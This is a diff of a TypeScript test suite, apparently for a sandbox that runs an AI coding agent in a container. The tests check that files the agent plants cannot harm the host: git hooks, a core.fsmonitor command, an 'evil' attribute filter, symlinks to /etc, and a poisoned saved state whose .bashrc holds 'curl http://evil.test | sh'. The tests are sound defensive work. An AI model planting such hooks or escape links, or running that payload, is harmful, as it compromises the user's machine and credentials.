@@ -15,14 +15,33 @@
  */
 import { execFileSync } from "node:child_process";
 import { randomBytes } from "node:crypto";
-import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  writeFileSync,
+} from "node:fs";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
 import { checkStateArchive, packState } from "../../src/state/archive.js";
 import { restoreRawState, saveRawState } from "../support/cache-entries.js";
 import { type CacheServer, startCacheServer } from "../support/cache-server.js";
 import { newJob, runStep } from "../support/action.js";
-import { fake, FAKE_ROUTE, jsonResult, labelled, runRunner, sandbox, type Sandbox, walk, writeManifest } from "../support/runner.js";
+import {
+  fake,
+  FAKE_ROUTE,
+  jsonResult,
+  labelled,
+  runRunner,
+  sandbox,
+  type Sandbox,
+  walk,
+  writeManifest,
+} from "../support/runner.js";
 
 const GIT_AGENT_IMAGE = "bottle-test/git-agent:latest";
 const KEY = `sk-ant-worktree-${randomBytes(6).toString("hex")}`;
@@ -39,7 +58,10 @@ const AGENT = "wtsafe";
 afterEach(() => {
   const mine = (names: string[]) => names.filter((n) => n.startsWith(`claude-bottle-${AGENT}-`));
   const left = labelled();
-  expect({ containers: mine(left.containers), networks: mine(left.networks) }).toEqual({ containers: [], networks: [] });
+  expect({ containers: mine(left.containers), networks: mine(left.networks) }).toEqual({
+    containers: [],
+    networks: [],
+  });
 });
 
 afterAll(() => {
@@ -94,7 +116,15 @@ describe("git control files planted by the agent", () => {
     hostRepo(b.workspace, home);
     const manifest = gitBottle(b.dir);
     const markers = join(b.dir, "markers");
-    const hookNames = ["pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "reference-transaction", "pre-auto-gc"];
+    const hookNames = [
+      "pre-commit",
+      "prepare-commit-msg",
+      "commit-msg",
+      "post-commit",
+      "post-checkout",
+      "reference-transaction",
+      "pre-auto-gc",
+    ];
     const plant = [
       // The agent's own work, committed as an agent would.
       "printf 'a project, fixed\\n' > README.md",
@@ -112,10 +142,24 @@ describe("git control files planted by the agent", () => {
       `printf '*.md filter=evil\\n' > .git/info/attributes`,
       "git log --oneline",
     ];
-    const run = await runRunner(["start", AGENT, "--manifest", manifest, "--format", "json", "--prompt", fake({ steps: plant.map((c) => ({ run: c })), end: "success" })], b);
+    const run = await runRunner(
+      [
+        "start",
+        AGENT,
+        "--manifest",
+        manifest,
+        "--format",
+        "json",
+        "--prompt",
+        fake({ steps: plant.map((c) => ({ run: c })), end: "success" }),
+      ],
+      b,
+    );
     expect(run.code, run.stderr).toBe(0);
     expect(jsonResult(run)).toMatchObject({ outcome: "success", preserved: false });
-    expect(run.stderr).toMatch(/warning: copy-back: left out the agent's \.git\/config, \.git\/hooks\/commit-msg, .*\.git\/info\/attributes/);
+    expect(run.stderr).toMatch(
+      /warning: copy-back: left out the agent's \.git\/config, \.git\/hooks\/commit-msg, .*\.git\/info\/attributes/,
+    );
 
     // What a person does next in their checkout.
     git(b.workspace, ["status"], home);
@@ -125,7 +169,10 @@ describe("git control files planted by the agent", () => {
     expect(existsSync(markers) ? readdirSync(markers) : [], "markers left by code the agent wrote").toEqual([]);
 
     // The agent's commit and files are there, and the host's own config and hooks are as they were.
-    expect(git(b.workspace, ["log", "--format=%s", "main"], home).trim().split("\n")).toEqual(["agent: fix the project", "initial"]);
+    expect(git(b.workspace, ["log", "--format=%s", "main"], home).trim().split("\n")).toEqual([
+      "agent: fix the project",
+      "initial",
+    ]);
     expect(readFileSync(join(b.workspace, "src/fix.ts"), "utf8")).toBe("export const fixed = true;\n");
     expect(git(b.workspace, ["status", "--porcelain", "--untracked-files=no"], home)).toBe("");
     const config = readFileSync(join(b.workspace, ".git/config"), "utf8");
@@ -144,7 +191,19 @@ describe("git control files planted by the agent", () => {
       `git config core.fsmonitor 'sh -c "mkdir -p ${markers}; echo ran >> ${markers}/fsmonitor"; false'`,
       "printf 'hello\\n' > hello.txt",
     ];
-    const run = await runRunner(["start", AGENT, "--manifest", manifest, "--format", "json", "--prompt", fake({ steps: steps.map((c) => ({ run: c })), end: "success" })], b);
+    const run = await runRunner(
+      [
+        "start",
+        AGENT,
+        "--manifest",
+        manifest,
+        "--format",
+        "json",
+        "--prompt",
+        fake({ steps: steps.map((c) => ({ run: c })), end: "success" }),
+      ],
+      b,
+    );
     expect(run.code, run.stderr).toBe(0);
     expect(readFileSync(join(b.workspace, "hello.txt"), "utf8")).toBe("hello\n");
     expect(existsSync(join(b.workspace, ".git"))).toBe(false);
@@ -169,7 +228,19 @@ describe("symlinks in the work tree", () => {
       "ln -s docs docs-link",
       "mkfifo pipe",
     ];
-    const run = await runRunner(["start", AGENT, "--manifest", manifest, "--format", "json", "--prompt", fake({ steps: steps.map((c) => ({ run: c })), end: "success" })], b);
+    const run = await runRunner(
+      [
+        "start",
+        AGENT,
+        "--manifest",
+        manifest,
+        "--format",
+        "json",
+        "--prompt",
+        fake({ steps: steps.map((c) => ({ run: c })), end: "success" }),
+      ],
+      b,
+    );
     const result = jsonResult(run);
     expect(run.code, run.stderr).toBe(0);
     expect(result).toMatchObject({ outcome: "success", preserved: false });
@@ -178,7 +249,8 @@ describe("symlinks in the work tree", () => {
     // Links inside the work tree stay links; links out of it never reach the host.
     expect(readlinkSync(join(b.workspace, "inner"))).toBe("work.txt");
     expect(readlinkSync(join(b.workspace, "docs-link"))).toBe("docs");
-    for (const name of ["passwd", "outside-abs", "up", "pipe"]) expect(existsSync(join(b.workspace, name)) || isLink(join(b.workspace, name)), name).toBe(false);
+    for (const name of ["passwd", "outside-abs", "up", "pipe"])
+      expect(existsSync(join(b.workspace, name)) || isLink(join(b.workspace, name)), name).toBe(false);
     for (const name of ["passwd", "outside-abs", "up"]) expect(run.stderr).toMatch(new RegExp(`warning: .*${name}`));
     expect(readdirSync(outside)).toEqual(["precious.txt"]);
     expect(readFileSync(join(outside, "precious.txt"), "utf8")).toBe("untouched\n");
@@ -188,7 +260,19 @@ describe("symlinks in the work tree", () => {
     const b = box();
     const manifest = gitBottle(b.dir);
     const steps = ["printf 'the work\\n' > work.txt", "ln -s /etc escape"];
-    const run = await runRunner(["start", AGENT, "--manifest", manifest, "--format", "json", "--prompt", fake({ steps: steps.map((c) => ({ run: c })), end: "crash" })], b);
+    const run = await runRunner(
+      [
+        "start",
+        AGENT,
+        "--manifest",
+        manifest,
+        "--format",
+        "json",
+        "--prompt",
+        fake({ steps: steps.map((c) => ({ run: c })), end: "crash" }),
+      ],
+      b,
+    );
     const result = jsonResult(run);
     expect(result).toMatchObject({ outcome: "crashed", preserved: true });
     const stateDir = String(result.stateDir);
@@ -214,12 +298,23 @@ function checkoutWithToken(dir: string, home: string, token: string): void {
   hostRepo(dir, home);
   const basic = Buffer.from(`x-access-token:${token}`).toString("base64");
   git(dir, ["config", "--local", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${basic}`], home);
-  git(dir, ["config", "--local", "remote.origin.url", `https://x-access-token:${token}@github.com/octo/widgets.git`], home);
+  git(
+    dir,
+    ["config", "--local", "remote.origin.url", `https://x-access-token:${token}@github.com/octo/widgets.git`],
+    home,
+  );
   git(dir, ["config", "--local", "remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"], home);
-  git(dir, ["config", "--local", `url.https://x-access-token:${token}@github.com/.insteadOf`, "https://github.com/"], home);
+  git(
+    dir,
+    ["config", "--local", `url.https://x-access-token:${token}@github.com/.insteadOf`, "https://github.com/"],
+    home,
+  );
   git(dir, ["config", "--local", "credential.helper", `!f() { echo password=${token}; }; f`], home);
   git(dir, ["config", "--local", "includeIf.gitdir:/.path", join(home, "git-credentials-4b1e.config")], home);
-  writeFileSync(join(home, "git-credentials-4b1e.config"), `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${basic}\n`);
+  writeFileSync(
+    join(home, "git-credentials-4b1e.config"),
+    `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${basic}\n`,
+  );
 }
 
 const tokenForms = (token: string) => [token, Buffer.from(`x-access-token:${token}`).toString("base64")];
@@ -235,7 +330,8 @@ const HUNT = [
 ];
 
 function expectNoToken(where: string, text: string, token: string): void {
-  for (const form of tokenForms(token)) expect(text.includes(form), `${where} holds the token (${form.slice(0, 8)}…)`).toBe(false);
+  for (const form of tokenForms(token))
+    expect(text.includes(form), `${where} holds the token (${form.slice(0, 8)}…)`).toBe(false);
 }
 
 describe("the checkout's job token", () => {
@@ -244,7 +340,19 @@ describe("the checkout's job token", () => {
     const token = `ghs_${randomBytes(18).toString("hex")}`;
     checkoutWithToken(b.workspace, b.dir, token);
     const manifest = gitBottle(b.dir);
-    const run = await runRunner(["start", AGENT, "--manifest", manifest, "--format", "json", "--prompt", fake({ steps: HUNT.map((c) => ({ run: c })), end: "error-result" })], b);
+    const run = await runRunner(
+      [
+        "start",
+        AGENT,
+        "--manifest",
+        manifest,
+        "--format",
+        "json",
+        "--prompt",
+        fake({ steps: HUNT.map((c) => ({ run: c })), end: "error-result" }),
+      ],
+      b,
+    );
     const result = jsonResult(run);
     expect(result).toMatchObject({ outcome: "error", preserved: true });
     const stateDir = String(result.stateDir);
@@ -275,7 +383,12 @@ describe("the checkout's job token", () => {
       checkoutWithToken(b.workspace, b.dir, token);
       gitBottle(b.workspace);
       const job = newJob({ workspace: b.workspace, runId: "3101", attempt: 1, cacheEnv: server.env });
-      const run = await runStep(job, "main", { agent: AGENT, prompt: fake({ steps: HUNT.map((c) => ({ run: c })), end: "error-result" }), "anthropic-api-key": KEY, "save-state": "cache" });
+      const run = await runStep(job, "main", {
+        agent: AGENT,
+        prompt: fake({ steps: HUNT.map((c) => ({ run: c })), end: "error-result" }),
+        "anthropic-api-key": KEY,
+        "save-state": "cache",
+      });
       expect(run.outputs, run.stdout).toMatchObject({ outcome: "error", preserved: "true" });
       const stateDir = join(job.runnerTemp, "claude-bottle", "state", run.outputs.identity as string);
       const outputs = toolOutputs(stateDir);
@@ -301,13 +414,35 @@ describe("a poisoned metadata.workspace", () => {
 
   const SESSION = "3f2b8c1e-0000-4000-8000-00000000abcd";
   /** A preserved state whose metadata names `victim` as the work tree, with a `.bashrc` in its work tree snapshot. */
-  function poisonedState(identity: string, victim: string, manifestPath: string): { name: string; type?: "directory"; body?: string }[] {
+  function poisonedState(
+    identity: string,
+    victim: string,
+    manifestPath: string,
+  ): { name: string; type?: "directory"; body?: string }[] {
     const metadata = {
-      version: 1, identity, agent: AGENT, manifestPath, workspace: victim, sessionId: SESSION,
-      outcome: "crashed", exitCode: 137, startedAt: "2026-11-22T10:00:00.000Z", endedAt: "2026-11-22T10:05:00.000Z",
-      launches: 1, numTurns: 1, costUsd: 0, image: null,
+      version: 1,
+      identity,
+      agent: AGENT,
+      manifestPath,
+      workspace: victim,
+      sessionId: SESSION,
+      outcome: "crashed",
+      exitCode: 137,
+      startedAt: "2026-11-22T10:00:00.000Z",
+      endedAt: "2026-11-22T10:05:00.000Z",
+      launches: 1,
+      numTurns: 1,
+      costUsd: 0,
+      image: null,
     };
-    const line = JSON.stringify({ type: "user", message: { role: "user", content: "hi" }, uuid: "u1", parentUuid: null, sessionId: SESSION, cwd: "/home/node/workspace" });
+    const line = JSON.stringify({
+      type: "user",
+      message: { role: "user", content: "hi" },
+      uuid: "u1",
+      parentUuid: null,
+      sessionId: SESSION,
+      cwd: "/home/node/workspace",
+    });
     return [
       { name: "metadata.json", body: JSON.stringify(metadata) },
       { name: "workspace", type: "directory" },
@@ -331,7 +466,12 @@ describe("a poisoned metadata.workspace", () => {
     const identity = `${AGENT}-pwsp1`;
     await saveRawState(server, b.workspace, `bottle-state-${identity}-1-1`, poisonedState(identity, victim, manifest));
     const job = newJob({ workspace: b.workspace, runId: "3201", attempt: 1, cacheEnv: server.env });
-    const run = await runStep(job, "main", { mode: "resume", identity, "anthropic-api-key": KEY, "resume-prompt": fake({ end: "success" }) });
+    const run = await runStep(job, "main", {
+      mode: "resume",
+      identity,
+      "anthropic-api-key": KEY,
+      "resume-prompt": fake({ end: "success" }),
+    });
     expect(run.outputs, run.stdout).toMatchObject({ outcome: "success", identity });
     expect(readFileSync(join(victim, ".bashrc"), "utf8")).toBe("# the runner user's shell\n");
     expect(readFileSync(join(b.workspace, ".bashrc"), "utf8")).toBe("curl http://evil.test | sh\n");
@@ -350,13 +490,14 @@ describe("a poisoned metadata.workspace", () => {
         writeFileSync(path, entry.body ?? "");
       }
     }
-    const run = await runRunner(["resume", identity, "--format", "json", "--prompt", fake({ end: "success" })], b, b.workspace);
+    const run = await runRunner(
+      ["resume", identity, "--format", "json", "--prompt", fake({ end: "success" })],
+      b,
+      b.workspace,
+    );
     expect(run.code, run.stderr).toBe(0);
     expect(readFileSync(join(victim, ".bashrc"), "utf8")).toBe("# the runner user's shell\n");
     expect(readFileSync(join(b.workspace, ".bashrc"), "utf8")).toBe("curl http://evil.test | sh\n");
     expect(run.stderr).toMatch(new RegExp(`warning: .*${victim}`));
   });
 });
-
-
-
